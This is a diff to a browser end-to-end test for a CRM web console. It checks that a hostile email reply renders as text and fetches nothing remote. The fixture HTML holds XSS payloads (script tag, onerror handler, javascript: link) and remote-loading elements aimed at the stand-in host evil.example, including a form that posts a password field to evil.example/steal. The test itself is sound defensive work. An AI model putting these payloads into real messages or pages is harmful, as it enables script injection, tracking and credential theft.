@@ -101,7 +101,12 @@ describe('email on an opportunity in the web console', () => {
     expect(await page.evaluate('window.__sameDocument')).toBe(true);
   });
 
-  it('shows a hostile reply as text, running none of its scripts', async () => {
+  it('shows a hostile reply as text, running none of its scripts and loading nothing remote', async () => {
+    const remote: string[] = [];
+    const record = (request: { url(): string }) => {
+      if (request.url().includes('evil.example')) remote.push(request.url());
+    };
+    page.on('request', record);
     await fixture.deliver(fixture.org.email('sales.pro'), {
       from: FIONA,
       to: [fixture.org.email('sales.pro')],
@@ -109,7 +114,13 @@ describe('email on an opportunity in the web console', () => {
       body: {
         contentType: 'html',
         content:
-          '<p>Here is the <b>signed quote</b>.</p><script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">',
+          '<p>Here is the <b>signed quote</b>.</p><script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">' +
+          '<a href="javascript:window.__pwned=3">Open the quote</a>' +
+          '<style>body { background: url(https://evil.example/css-body) }</style>' +
+          '<div style="background-image: url(https://evil.example/css-inline)">Terms</div>' +
+          '<img src="https://evil.example/pixel.png" alt="tracking pixel">' +
+          '<iframe src="https://evil.example/frame"></iframe>' +
+          '<form action="https://evil.example/steal"><input name="password"></form>',
       },
       inReplyTo: sent.internetMessageId,
     });
@@ -122,6 +133,17 @@ describe('email on an opportunity in the web console', () => {
     expect(await page.evaluate('window.__pwned')).toBeUndefined();
     expect(await page.evaluate(`[...document.scripts].some((s) => s.textContent.includes('__pwned'))`)).toBe(false);
     expect(await page.evaluate(`document.querySelectorAll('[onerror]').length`)).toBe(0);
+    // The link is no longer a script, and clicking it runs nothing.
+    const link = hostile.getByText('Open the quote');
+    expect(await link.evaluate((a) => a.getAttribute('href') ?? '')).not.toMatch(/^javascript:/i);
+    await link.click({ force: true });
+    await page.waitForTimeout(200);
+    expect(await page.evaluate('window.__pwned')).toBeUndefined();
+    // No frame, form, style sheet or remote image came through, and nothing was fetched from the sender's host.
+    expect(await hostile.evaluate((el) => el.querySelectorAll('iframe, form, style, input').length)).toBe(0);
+    expect(await hostile.evaluate((el) => el.innerHTML)).not.toContain('evil.example/css');
+    expect(remote).toEqual([]);
+    page.off('request', record);
     expect(await page.evaluate('window.__sameDocument')).toBe(true);
     await page.screenshot({ path: 'test-results/opportunity-timeline.png', fullPage: true });
   });
